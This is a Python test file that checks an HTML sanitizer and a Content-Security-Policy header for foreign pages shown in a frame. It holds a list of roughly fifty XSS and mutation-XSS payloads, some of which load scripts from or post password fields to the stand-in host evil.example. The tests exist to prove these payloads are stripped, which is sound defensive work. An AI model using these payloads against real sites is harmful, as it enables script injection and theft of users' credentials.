"""Foreign pages in a frame of ours: whatever they hold, nothing of it runs, loads, styles, submits or leads away."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from monitors_gateway import rendering
from monitors_gateway.domain.cleaning import clean

ALLOWED = frozenset(
    re.findall(
        r"\w+",
        "h1 h2 h3 h4 h5 h6 p div span ul ol li dl dt dd table caption thead tbody tfoot tr td th pre code blockquote b strong "
        "i em s del ins u small sub sup br hr section article main header footer nav aside figure figcaption time q cite abbr "
        "kbd samp var dfn address mark a",
    )
)
ATTRIBUTES = {"mark": {"id"}, "a": {"href", "target"}, "td": {"colspan", "rowspan"}, "th": {"colspan", "rowspan"}}

ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=http://evil.example/pixel.png>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>1</script></svg>#x'></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<p onclick=alert(1) onmouseover='alert(2)'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example'>x</a><a href='/console/account'>x</a><a href='#x'>x</a>",
    "<a href='place:b1;evil'>x</a><a href='place:../../logout'>x</a><a href='place:b1?x=1'>x</a>",
    "<a href=x target=_top>x</a>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example><base target=_top>",
    "<form action=//evil.example><input name=password><button formaction='javascript:alert(1)'>x</button></form>",
    "<object data=//evil.example/x.swf></object><embed src=//evil.example>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><iframe src=//evil.example></iframe>",
    "<style>@import url(//evil.example/x.css); body{background:url(//evil.example)}</style>",
    "<p style='background:url(//evil.example/x)'>x</p><div style='width:expression(alert(1))'>x</div>",
    "<link rel=preconnect href=//evil.example><link rel=stylesheet href=//e.example><link rel=prefetch href=//e.example>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
    "<template><script>alert(1)</script></template>",
    "<video src=//evil.example poster=//evil.example><source src=//evil.example onerror=alert(1)></video>",
    "<audio autoplay src=//evil.example></audio>",
    "<table background=//evil.example><td background=//evil.example>x</table>",
    "<body onload=alert(1) background=//evil.example>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><?xml-stylesheet href='//evil.example'?>",
    # Mutation: what a parser makes of it changes between the first and the second reading.
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<p><svg><foreignObject><p><style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<select><noscript></select><script>alert(1)</script>",
    "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
    "<mark id='fact' onclick=alert(1)>x</mark><mark id=other>y</mark><p id=fact>z</p>",
    "<td colspan='9999999999'>x</td><table><td colspan=2 rowspan='javascript:1'>x</td></table>",
]


def check_is_harmless(html: str, links: bool) -> None:
    """Reads the document as a browser would and looks at every element and attribute of it."""
    tree = LexborHTMLParser(f"<!doctype html><html><head></head><body>{html}</body></html>")
    assert tree.head is not None
    assert tree.body is not None
    assert not list(tree.head.iter()), html
    for node in tree.body.traverse():
        if node.tag == "body":
            assert not node.attributes
            continue
        assert node.tag in ALLOWED, html
        assert set(node.attributes) <= ATTRIBUTES.get(node.tag or "", set()), html
        href = node.attributes.get("href")
        assert href is None or (links and re.fullmatch(r"/point\?place=[bcd]\d+(\.\d+){0,2}", href)), html
        assert node.attributes.get("target") in (None, "_top"), html
        assert node.attributes.get("id") in (None, "fact"), html
        assert all((node.attributes.get(name) or "0").isdigit() for name in ("colspan", "rowspan")), html


@pytest.mark.parametrize("attack", ATTACKS)
def test_clean_when_a_page_attacks_then_only_words_are_left(attack: str) -> None:
    for html in (attack, f"<p>before {attack} after</p>", f"<table><tr><td>{attack}</td></tr></table>", attack * 3):
        check_is_harmless(clean(html), links=False)
        check_is_harmless(clean(html, "/point?place={}".format), links=True)


@given(st.lists(st.sampled_from(ATTACKS) | st.text(max_size=20), max_size=6), st.integers(0, 40))
def test_clean_when_attacks_are_joined_and_cut_then_it_is_harmless_and_stays_so(parts: list[str], cut: int) -> None:
    html = "".join(parts)[cut:]
    once = clean(html)
    check_is_harmless(once, links=False)
    check_is_harmless(clean(once), links=False)


def test_clean_when_the_fact_is_marked_then_the_mark_and_the_structure_stay() -> None:
    html = '<h1 class=x>Kettle</h1><table><tr><td colspan="2">Price <mark id="fact">$48</mark></td></tr></table>'
    cleaned = clean(html)
    assert '<mark id="fact">$48</mark>' in cleaned
    assert '<td colspan="2">' in cleaned
    assert "<h1>Kettle</h1>" in cleaned


def test_clean_when_places_are_links_then_they_lead_where_we_say_and_only_then() -> None:
    html = '<a href="place:c0.1.1">$48</a><a href="place:b12">Kettle</a>'
    linked = clean(html, "/point?place={}".format)
    assert linked == (
        '<a href="/point?place=c0.1.1" target="_top">$48</a><a href="/point?place=b12" target="_top">Kettle</a>'
    )
    assert clean(html) == "<a>$48</a><a>Kettle</a>"


def test_policy_lets_nothing_run_or_load_but_our_own_style() -> None:
    for with_links in (False, True):
        policy = rendering.headers(with_links)["Content-Security-Policy"].split(";")
        directives = {name: values for name, _, values in (each.strip().partition(" ") for each in policy)}
        assert directives["default-src"] == "'none'"
        assert re.fullmatch(r"'sha256-[\w+/=]+'", directives["style-src"])
        assert directives["base-uri"] == directives["form-action"] == "'none'"
        assert directives["frame-ancestors"] == "'self'"
        assert directives["sandbox"] == ("allow-top-navigation-by-user-activation" if with_links else "")
        assert not {"script-src", "img-src", "connect-src", "frame-src"} & set(directives)
    assert "url(" not in rendering.STYLE
    assert "@import" not in rendering.STYLE
